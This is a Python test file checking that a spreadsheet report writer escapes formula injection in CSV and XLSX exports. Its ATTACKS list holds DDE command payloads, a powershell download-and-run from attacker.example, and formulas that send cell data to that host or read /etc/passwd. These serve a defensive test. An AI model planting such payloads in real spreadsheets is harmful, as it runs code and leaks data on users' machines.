"""What people put into a list to run on the reader's computer stays text in every export, column titles too."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from smsfox_gui.adapters.workbooks import SpreadsheetReportWriter, guarded

# After the lists of OWASP and PayloadsAllTheThings.
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+9+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://attacker.example?x="&A2;"Нажмите")',
    '=IMPORTXML(CONCAT("http://attacker.example?v="; CONCATENATE(A2:E2)); "//a/a10")',
    '=IMPORTFEED(CONCAT("http://attacker.example/123.txt?v="; CONCATENATE(A2:E2)))',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x"; "A1")',
    '=IMAGE("https://attacker.example/images/srpr/logo3w.png")',
    '=WEBSERVICE("http://attacker.example/"&A2)',
    "='file:///etc/passwd'#$passwd.A1",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=     cmd|'/c calc.exe'!A",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "=C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-1-2",
    "+7-900-123-45-67",
    "-",
    "=",
    '"=1+1',
    'a";=1+1;"',
    "a\r\n=1+1",
    "'=1+1",
]
PLAIN = ["Анна", "+7 900 000-00-12", "+7 (900) 000-00-12", "8-900-123-45-67", "79001234567", "-1 500,00", "+5", ""]
RUNS = re.compile(r"[\s\ufeff\u200b\u200e\u200f\0]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+( \d{3})*([.,]\d+)?|\+\d+[ (][\d ().-]+")


def exported(path: Path) -> Path:
    rows: list[list[str | int]] = [[attack, 1, attack] for attack in ATTACKS]
    SpreadsheetReportWriter().write(path, ["Имя", "=1+1", "@SUM(1)"], rows, "=1+1")
    return path


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_of_csv_cannot_begin_a_formula(attack: str) -> None:
    said = guarded(attack)
    assert not RUNS.match(said) or NUMBER.fullmatch(said)
    assert said.removeprefix("'") in (attack.replace("\0", ""), attack.removeprefix("'"))


@pytest.mark.parametrize("cell", PLAIN)
def test_an_ordinary_cell_is_left_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell


@given(st.text(alphabet="=+-@ \t\r\n\0\ufeff＝0123456789().,'\"A|!", max_size=12))
def test_nothing_that_begins_like_a_formula_gets_through(cell: str) -> None:
    said = guarded(cell)
    if RUNS.match(said):
        assert NUMBER.fullmatch(said), said
        assert not re.search(r"\d-\d", said) or " " in said or "(" in said


def test_csv_keeps_its_rows_and_columns(tmp_path: Path) -> None:
    path = exported(tmp_path / "итог.csv")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=";"))
    assert len(rows) == 1 + len(ATTACKS)
    assert {len(row) for row in rows} == {3}
    assert not [cell for row in rows for cell in row if RUNS.match(cell)]


def test_no_cell_of_a_workbook_is_a_formula(tmp_path: Path) -> None:
    path = exported(tmp_path / "итог.xlsx")
    book = openpyxl.load_workbook(path)
    kinds = {cell.data_type for row in book.active.iter_rows() for cell in row}
    assert kinds == {"s", "n"}
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        sheets = b"".join(archive.read(name) for name in names if "worksheets/" in name)
        assert b"<f" not in sheets.replace(b"<font", b"")
        assert not [name for name in names if "externalLink" in name or "vbaProject" in name]
        assert b"<definedName " not in archive.read("xl/workbook.xml")
    read = [row[0].value for row in book.active.iter_rows(min_row=2)]
    for cell, attack in zip(read, ATTACKS, strict=True):
        if attack.isprintable():
            assert cell == attack
